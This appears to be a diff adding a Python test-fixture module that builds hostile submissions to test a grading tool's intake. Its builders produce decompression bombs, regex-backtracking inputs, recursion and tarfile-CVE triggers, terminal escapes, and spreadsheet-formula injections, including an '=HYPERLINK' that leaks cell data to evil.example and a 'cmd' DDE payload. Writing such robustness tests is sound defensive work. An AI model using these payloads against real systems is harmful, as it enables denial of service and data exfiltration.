@@ -1,0 +1,511 @@
+"""Hostile candidate files for the host side of grading, built on demand.
+
+Text replies (``assignments/support-replies``), case analyses (``assignments/pricing-review``)
+and archives (any assignment: they fail in intake). Each builder writes into the given folder
+and returns the path to pass to ``worksample grade``: a file or a folder. Built in code rather
+than committed, so that each one is readable; the large ones are runs of zeros, deflated once
+per 64 MiB block and repeated (a few MB on disk, well under a second to build).
+"""
+
+from __future__ import annotations
+
+import functools
+import io
+import struct
+import tarfile
+import zipfile
+import zlib
+from pathlib import Path
+
+ZERO_BLOCK = 64 * 2**20  # zeros are deflated in blocks of this size, each block reused
+GIB = 2**30
+REPLY_LIMIT = 64 * 1024  # support-replies: max_reply_kb; a larger reply is not read
+
+REPLY = """Hello Margaret,
+
+Thank you for writing, and I am sorry the plan has not worked out for your studio.
+
+Annual plans are refunded in full within 30 days of purchase. Yours is seven weeks old, so a
+cash refund is not possible. Instead, I can turn the months you have not used into account
+credit that you can use on any plan later. I have also turned off the renewal, so you will
+not be charged again next year.
+
+Would you like the credit? Just reply yes and I will add it today.
+
+Kind regards,
+Alex
+"""
+
+ANALYSIS = """# Pro plan price review
+
+## Summary
+
+Monthly revenue rose after the price rise, but churn rose too. The extra churn is in solo
+accounts; teams accepted the new price.
+
+## Recommendation
+
+Keep the new price for teams and offer solo customers a lighter plan.
+"""
+
+
+# --- zeros, deflated cheaply --------------------------------------------------------------
+
+
+@functools.cache
+def _zero_block() -> bytes:
+    """ZERO_BLOCK zero bytes as raw deflate blocks that start and end on a full flush, so the
+    same bytes can be repeated anywhere in a deflate stream."""
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return compressor.compress(bytes(ZERO_BLOCK)) + compressor.flush(zlib.Z_FULL_FLUSH)
+
+
+def _gf2_apply(matrix: list[int], vector: int) -> int:
+    result = 0
+    for column in matrix:
+        if vector & 1:
+            result ^= column
+        vector >>= 1
+    return result
+
+
+def crc32_of_zeros(count: int, crc: int = 0) -> int:
+    """``zlib.crc32(bytes(count), crc)`` without the bytes: appending a zero byte is a linear
+    map of the CRC register, raised to the power ``count`` by squaring."""
+    power = [zlib.crc32(b"\0", 1 << bit) ^ zlib.crc32(b"\0") for bit in range(32)]
+    register = crc ^ 0xFFFFFFFF
+    while count:
+        if count & 1:
+            register = _gf2_apply(power, register)
+        power = [_gf2_apply(power, column) for column in power]
+        count >>= 1
+    return register ^ 0xFFFFFFFF
+
+
+def _deflate(parts: list[bytes | int]) -> tuple[list[bytes], int, int]:
+    """Raw deflate chunks of ``parts`` (bytes, or an int: that many zero bytes), with the
+    CRC-32 and the length of what they inflate to."""
+    chunks, crc, size = [], 0, 0
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    for part in parts:
+        if isinstance(part, int):
+            blocks, rest = divmod(part, ZERO_BLOCK)
+            chunks += [compressor.flush(zlib.Z_FULL_FLUSH)] + [_zero_block()] * blocks
+            chunks.append(compressor.compress(bytes(rest)))
+            crc, size = crc32_of_zeros(part, crc), size + part
+        else:
+            chunks.append(compressor.compress(part))
+            crc, size = zlib.crc32(part, crc), size + len(part)
+    chunks.append(compressor.flush())
+    return chunks, crc, size
+
+
+def _write_gzip(path: Path, parts: list[bytes | int]) -> Path:
+    """A .gz file of ``parts`` (see ``_deflate``), CRC and length right."""
+    chunks, crc, size = _deflate(parts)
+    with open(path, "wb") as out:
+        out.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
+        out.writelines(chunks)
+        out.write(struct.pack("<2L", crc, size & 0xFFFFFFFF))
+    return path
+
+
+def _write_zip(path: Path, members: list[tuple[str, list[bytes | int]]]) -> Path:
+    """A zip of deflated members (name, parts), sizes under 4 GiB (no zip64)."""
+    central = []
+    with open(path, "wb") as out:
+        for name, parts in members:
+            chunks, crc, size = _deflate(parts)
+            packed, encoded, offset = sum(map(len, chunks)), name.encode(), out.tell()
+            out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, packed,
+                                  size, len(encoded), 0) + encoded)
+            out.writelines(chunks)
+            central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21,
+                                       crc, packed, size, len(encoded), 0, 0, 0, 0, 0, offset)
+                           + encoded)
+        directory, start = b"".join(central), out.tell()
+        out.write(directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central),
+                                          len(central), len(directory), start, 0))
+    return path
+
+
+# --- text replies (support-replies) -------------------------------------------------------
+
+
+def _replies(folder: Path, name: str, files: dict[str, bytes]) -> Path:
+    """A submission folder ``name`` holding one file per reply."""
+    root = folder / name
+    root.mkdir()
+    for file_name, data in files.items():
+        (root / file_name).write_bytes(data)
+    return root
+
+
+def _eml(headers: list[tuple[str, str]], body: str,
+         sender: str = "Alex Moreno <alex@ledgerly.example>") -> bytes:
+    thread = [("From", sender),
+              ("To", "Margaret Okafor <margaret@okafor-design.example>"),
+              ("Subject", "Re: Refund for annual plan"),
+              ("In-Reply-To", "<late-refund-7731@okafor-design.example>")]
+    lines = [f"{key}: {value}" for key, value in thread + headers]
+    return ("\n".join(lines) + "\n\n" + body).encode("ascii")
+
+
+def eml_utf7_lone_surrogate(folder: Path) -> Path:
+    """Lone surrogate from a lenient decoder: a UTF-7 text/plain reply whose ``+2AA-`` decodes
+    to U+D800, which cannot be encoded as UTF-8 (storing, printing, JSON)."""
+    body = REPLY.replace("Kind regards", "+2AA- Kind regards")
+    eml = _eml([("Content-Type", 'text/plain; charset="utf-7"')], body)
+    return _replies(folder, "utf7-plain", {"late-refund.eml": eml})
+
+
+def eml_utf7_lone_surrogate_html(folder: Path) -> Path:
+    """Lone surrogate from a lenient decoder, second instance: the same ``+2AA-`` in a UTF-7
+    text/html reply, so that it reaches the HTML reader."""
+    html = "".join(f"<p>{block}</p>\n" for block in REPLY.replace("Kind", "+2AA- Kind")
+                   .split("\n\n"))
+    eml = _eml([("Content-Type", 'text/html; charset="utf-7"')], html)
+    return _replies(folder, "utf7-html", {"late-refund.eml": eml})
+
+
+def _html_reply(css_and_rest: str) -> bytes:
+    return ("<p>" + REPLY.replace("\n\n", "</p>\n<p>") + "</p>\n" + css_and_rest).encode()
+
+
+def html_style_unclosed_rule(folder: Path) -> Path:
+    """Regex backtracking (quadratic) on CSS: a ``<style>`` block of 64 K characters with an
+    open rule and no closing brace, the reply just under the 64 KB limit."""
+    head = _html_reply("<style>p {")
+    tail = b"</style>\n"
+    css = b"x" * (REPLY_LIMIT - len(head) - len(tail))
+    return _replies(folder, "style-no-brace", {"late-refund.html": head + css + tail})
+
+
+def html_style_never_closed(folder: Path) -> Path:
+    """Regex backtracking (quadratic) on CSS, second instance: ``<style>`` repeated to the 64 KB
+    limit with no ``</style>``; each one makes a lazy match scan to the end."""
+    head = _html_reply("")
+    tags = b"<style>" * ((REPLY_LIMIT - len(head)) // len(b"<style>"))
+    return _replies(folder, "style-never-closed", {"late-refund.html": head + tags})
+
+
+NESTED_COMMENTS = "(" * 5000 + ")" * 5000
+
+
+def eml_nested_comments(folder: Path) -> Path:
+    """Unbounded recursion in a parser: 5,000 nested comments in two headers of an .eml reply:
+    From (as reported; a reader that parses the sender recurses) and Content-Type (which the
+    email package parses to find the body: the one that recurses today)."""
+    eml = _eml([("Content-Type", f"text/plain; charset=utf-8 {NESTED_COMMENTS}")], REPLY,
+               sender=f"Alex Moreno <alex@ledgerly.example> {NESTED_COMMENTS}")
+    return _replies(folder, "nested-comments", {"late-refund.eml": eml})
+
+
+def eml_nested_comments_disposition(folder: Path) -> Path:
+    """Unbounded recursion in a parser, second instance: the nesting in Content-Disposition
+    (read to tell a body from an attachment), a plain Content-Type."""
+    eml = _eml([("Content-Type", "text/plain; charset=utf-8"),
+                ("Content-Disposition", f"inline {NESTED_COMMENTS}")], REPLY)
+    return _replies(folder, "nested-disposition", {"late-refund.eml": eml})
+
+
+ESCAPES = "\x1b[2J\x1b[1A\x9b2K"  # clear screen, cursor up, C1 CSI: erase line
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the invoice")'
+
+
+def reply_name_with_escapes(folder: Path) -> Path:
+    """Candidate text obeyed by a terminal: a single reply file whose name carries ESC [2J,
+    ESC [1A and a C1 CSI (U+009B); the name reaches messages printed and stored."""
+    path = folder / f"late-refund{ESCAPES}.txt"
+    path.write_text(REPLY, encoding="utf-8")
+    return path
+
+
+def reply_text_with_escapes_and_formulas(folder: Path) -> Path:
+    """Candidate text obeyed by a terminal or a spreadsheet: replies whose text carries
+    terminal escape sequences, and replies that start with a formula (``=HYPERLINK(...)``,
+    ``+``, ``-``, ``@``), quoted as evidence into results, reports and exports."""
+    escaped = REPLY.replace("Thank you", f"{ESCAPES}Thank you").replace(
+        "Kind regards", "\x1b]8;;https://evil.example\x1b\\Kind regards\x1b]8;;\x1b\\")
+    formulas = {  # each formula starts a sentence that grading quotes as evidence
+        "double-charge.txt": f"{FORMULA} You were only charged once, Priya.",
+        "missing-invoices.txt": "+1+cmd|' /C calc'!A0 Your invoices are safe, Dmitri.\n\n"
+                                "@SUM(1+1) Deleted invoices stay in Trash for 30 days.\n\n"
+                                "-2+3 A restore takes up to 1 business day."}
+    files = {"late-refund.txt": escaped, **formulas}
+    return _replies(folder, "escapes-and-formulas",
+                    {name: text.encode() for name, text in files.items()})
+
+
+# --- case analyses (pricing-review) -------------------------------------------------------
+
+
+def _analysis(folder: Path, name: str, file_name: str, data: bytes) -> Path:
+    """A submission folder ``name`` holding one document."""
+    return _replies(folder, name, {file_name: data})
+
+
+def markdown_open_brackets(folder: Path) -> Path:
+    """Regex backtracking (quadratic) on Markdown links: an analysis followed by 200,000 ``[``
+    that never close."""
+    return _analysis(folder, "open-brackets", "analysis.md",
+                     (ANALYSIS + "\n" + "[" * 200_000 + "\n").encode())
+
+
+def markdown_link_openers(folder: Path) -> Path:
+    """Regex backtracking (quadratic) on Markdown links, second instance: ``[](`` repeated
+    200,000 times; each is a link whose target never closes."""
+    return _analysis(folder, "link-openers", "analysis.md",
+                     (ANALYSIS + "\n" + "[](" * 200_000 + "\n").encode())
+
+
+def _docx_bytes(heading: str, picture: bool = False) -> bytes:
+    """A Word document: a Heading 1, a paragraph, and optionally a tiny picture."""
+    import docx
+
+    document = docx.Document()
+    document.add_heading(heading, level=1)
+    document.add_paragraph(ANALYSIS.split("## Summary")[1].split("##")[0].strip())
+    if picture:
+        document.add_picture(io.BytesIO(_png()))
+    buffer = io.BytesIO()
+    document.save(buffer)
+    return buffer.getvalue()
+
+
+def _png() -> bytes:
+    """A valid 1x1 grey PNG."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I",
+                                                                       zlib.crc32(kind + data))
+
+    header = struct.pack(">2I5B", 1, 1, 8, 0, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0"))
+            + chunk(b"IEND", b""))
+
+
+def docx_heading_of_spaces(folder: Path) -> Path:
+    """Regex backtracking (quadratic) on a heading line: a Heading 1 that is one word, two
+    million spaces and another word (a 2 MB document.xml, a few KB zipped)."""
+    data = _docx_bytes("Summary" + " " * 2_000_000 + "Recommendation")
+    return _analysis(folder, "heading-of-spaces", "analysis.docx", data)
+
+
+def docx_huge_media_part(folder: Path) -> Path:
+    """Decompression bomb in a package part: a ~2 MB DOCX whose picture (a part the document
+    references, so python-docx loads it) inflates to 2 GiB of zeros."""
+    with zipfile.ZipFile(io.BytesIO(_docx_bytes("Summary", picture=True))) as package:
+        members = [(info.filename, [package.read(info)]) for info in package.infolist()]
+    members = [(name, [2 * GIB] if name.startswith("word/media/") else parts)
+               for name, parts in members]
+    root = folder / "huge-media-part"
+    root.mkdir()
+    _write_zip(root / "analysis.docx", members)
+    return root
+
+
+def _pdf(lines: list[str], to_unicode: str) -> bytes:
+    """A one-page PDF of ``lines`` in Helvetica, whose ToUnicode CMap holds ``to_unicode``."""
+    text = "".join(f"({line}) Tj T* " for line in lines)
+    content = f"BT /F1 11 Tf 72 720 Td 14 TL {text}ET".encode("latin-1")
+    cmap = ("/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
+            "/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
+            "/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
+            "1 begincodespacerange <00> <FF> endcodespacerange\n"
+            f"{to_unicode}\nendcmap CMapName currentdict /CMap defineresource pop end end\n"
+            ).encode()
+    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
+               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
+               b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
+               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
+               b"/Encoding /WinAnsiEncoding /ToUnicode 6 0 R >>",
+               _pdf_stream(content), _pdf_stream(cmap)]
+    return _pdf_file(objects)
+
+
+def _pdf_stream(data: bytes) -> bytes:
+    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
+
+
+def _pdf_file(objects: list[bytes]) -> bytes:
+    out, offsets = bytearray(b"%PDF-1.4\n"), []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1, xref)
+    return bytes(out)
+
+
+PDF_LINES = ["Summary", "Monthly revenue rose after the price rise, but churn rose too.",
+             "The extra churn is in solo accounts ~ teams accepted the new price.",
+             "Recommendation", "Keep the new price for teams; offer solo customers a lighter plan."]
+
+
+def pdf_tounicode_surrogate(folder: Path) -> Path:
+    """Lone surrogate from a document's own text map: a PDF whose ToUnicode CMap maps the
+    glyph ``~`` to <D800>, amid ordinary text."""
+    data = _pdf(PDF_LINES, "1 beginbfchar <7E> <D800> endbfchar")
+    return _analysis(folder, "pdf-surrogate", "analysis.pdf", data)
+
+
+def pdf_tounicode_surrogate_range(folder: Path) -> Path:
+    """Lone surrogate from a document's own text map, second instance: a ``bfrange`` that maps
+    ``~`` to the low surrogate <DFFF>."""
+    data = _pdf(PDF_LINES, "1 beginbfrange <7E> <7E> <DFFF> endbfrange")
+    return _analysis(folder, "pdf-surrogate-range", "analysis.pdf", data)
+
+
+def document_name_formula(folder: Path) -> Path:
+    """Candidate text obeyed by a spreadsheet, in a case analysis: the only document is named
+    ``=HYPERLINK(...)`` (an old .doc), so the rejection message, which starts with the file's
+    name, starts a formula in the CSV export."""
+    name = '=HYPERLINK("http:evil.example","Open the analysis").doc'
+    return _analysis(folder, "formula-name", name, b"\xd0\xcf\x11\xe0 not really Word\n")
+
+
+# --- archives (any assignment) ------------------------------------------------------------
+
+
+def _header(name: str, size: int, kind: bytes = tarfile.REGTYPE,
+            fmt: int = tarfile.USTAR_FORMAT) -> bytes:
+    info = tarfile.TarInfo(name)
+    info.size, info.type = size, kind
+    return info.tobuf(fmt, "utf-8", "surrogateescape")
+
+
+def _padded(data: bytes) -> bytes:
+    return data + bytes(-len(data) % tarfile.BLOCKSIZE)
+
+
+def _small_file(name: str = "inventory.py", data: bytes = b"x = 1\n") -> bytes:
+    return _header(name, len(data)) + _padded(data)
+
+
+END = bytes(2 * tarfile.BLOCKSIZE)
+
+
+def _with_size_field(header: bytes, field: bytes) -> bytes:
+    """A tar header block with its size field replaced and its checksum recomputed."""
+    block = bytearray(header)
+    block[124:136] = field
+    block[148:156] = b" " * 8
+    block[148:156] = b"%06o\0 " % sum(block)
+    return bytes(block)
+
+
+def tar_negative_size(folder: Path) -> Path:
+    """Unbounded loop in tarfile (CVE-2025-8194): a skipped member whose size is a negative
+    base-256 number (-512), so the next header is this one again, for ever; it follows a real
+    file (a negative offset of 0 would end the listing)."""
+    field = b"\xff" + (256**11 - 512).to_bytes(11, "big")
+    looping = _with_size_field(_header("__MACOSX/._inventory.py", 0), field)
+    path = folder / "negative-size.tar"
+    path.write_bytes(_small_file() + looping + END)
+    return path
+
+
+def tar_pax_digits(folder: Path) -> Path:
+    """Regex backtracking (quadratic) in tarfile (CVE-2024-6232): a pax header of two million
+    digits, searched for ``\\d+ hdrcharset=`` from every position."""
+    digits = b"1" * 2_000_000
+    pax = _header("././@PaxHeader", len(digits), tarfile.XHDTYPE) + _padded(digits)
+    path = folder / "pax-digits.tar"
+    path.write_bytes(pax + _small_file() + END)
+    return path
+
+
+def tar_pax_declares_3gib(folder: Path) -> Path:
+    """A header's size believed before its data: after a real file, a pax header that
+    declares 3 GiB, which tarfile asks to read in one call; only a record is present."""
+    record = b"21 path=inventory.py\n"
+    pax = _header("././@PaxHeader", 3 * GIB, tarfile.XHDTYPE) + _padded(record)
+    path = folder / "pax-3gib.tar"
+    path.write_bytes(_small_file() + pax)
+    return path
+
+
+def targz_pax_3gib_present(folder: Path) -> Path:
+    """A header's size believed before its data, second instance: a ~3 MB tar.gz whose pax
+    header declares 3 GiB and holds them (zeros), read into memory whole."""
+    path = folder / "pax-3gib-present.tar.gz"
+    return _write_gzip(path, [_header("././@PaxHeader", 3 * GIB, tarfile.XHDTYPE), 3 * GIB,
+                              _small_file() + END])
+
+
+def targz_skipped_8gib(folder: Path) -> Path:
+    """A skipped member escapes the budget: a ~8 MB tar.gz with a ``__MACOSX/`` member of
+    8 GiB of zeros, which must be inflated to be skipped, then one small real file."""
+    path = folder / "macosx-8gib.tar.gz"
+    big = _header("__MACOSX/._big.bin", 8 * GIB, fmt=tarfile.PAX_FORMAT)
+    return _write_gzip(path, [big, 8 * GIB, _small_file() + END])
+
+
+def zip_skipped_2gib(folder: Path) -> Path:
+    """A skipped member escapes the budget, in a zip: a ~2 MB zip with a ``__MACOSX/``
+    member of 2 GiB of zeros, then one small real file."""
+    return _write_zip(folder / "macosx-2gib.zip",
+                      [("__MACOSX/._big.bin", [2 * GIB]), ("inventory.py", [b"x = 1\n"])])
+
+
+def zip_skipped_many(folder: Path) -> Path:
+    """A skipped member escapes the budget, second instance: 50,000 empty ``__MACOSX/``
+    members (25 times the file-count limit), then one small real file."""
+    members = [(f"__MACOSX/._{index:05d}", []) for index in range(50_000)]
+    return _write_zip(folder / "macosx-many.zip", members + [("inventory.py", [b"x = 1\n"])])
+
+
+LONG_NAME = "inventory-" + "n" * 4_000_000 + ".py"
+
+
+def tar_gnu_long_name(folder: Path) -> Path:
+    """An unbounded header field: a GNU ``././@LongLink`` (type L) header carrying a member
+    name of 4 MB."""
+    path = folder / "gnu-long-name.tar"
+    path.write_bytes(_header(LONG_NAME, 6, fmt=tarfile.GNU_FORMAT) + _padded(b"x = 1\n") + END)
+    return path
+
+
+def tar_pax_long_path(folder: Path) -> Path:
+    """An unbounded header field, second instance: a pax ``path`` record of 4 MB."""
+    path = folder / "pax-long-path.tar"
+    path.write_bytes(_header(LONG_NAME, 6, fmt=tarfile.PAX_FORMAT) + _padded(b"x = 1\n") + END)
+    return path
+
+
+TEXT_CASES = {
+    "eml-utf7-lone-surrogate": eml_utf7_lone_surrogate,
+    "eml-utf7-lone-surrogate-html": eml_utf7_lone_surrogate_html,
+    "html-style-unclosed-rule": html_style_unclosed_rule,
+    "html-style-never-closed": html_style_never_closed,
+    "eml-nested-comments": eml_nested_comments,
+    "eml-nested-comments-disposition": eml_nested_comments_disposition,
+    "reply-name-with-escapes": reply_name_with_escapes,
+    "reply-text-with-escapes-and-formulas": reply_text_with_escapes_and_formulas,
+}
+
+CASE_CASES = {
+    "markdown-open-brackets": markdown_open_brackets,
+    "markdown-link-openers": markdown_link_openers,
+    "docx-heading-of-spaces": docx_heading_of_spaces,
+    "docx-huge-media-part": docx_huge_media_part,
+    "pdf-tounicode-surrogate": pdf_tounicode_surrogate,
+    "pdf-tounicode-surrogate-range": pdf_tounicode_surrogate_range,
+    "document-name-formula": document_name_formula,
+}
+
+ARCHIVE_CASES = {
+    "tar-negative-size": tar_negative_size,
+    "tar-pax-digits": tar_pax_digits,
+    "tar-pax-declares-3gib": tar_pax_declares_3gib,
+    "targz-pax-3gib-present": targz_pax_3gib_present,
+    "targz-skipped-8gib": targz_skipped_8gib,
+    "zip-skipped-2gib": zip_skipped_2gib,
+    "zip-skipped-many": zip_skipped_many,
+    "tar-gnu-long-name": tar_gnu_long_name,
+    "tar-pax-long-path": tar_pax_long_path,
+}
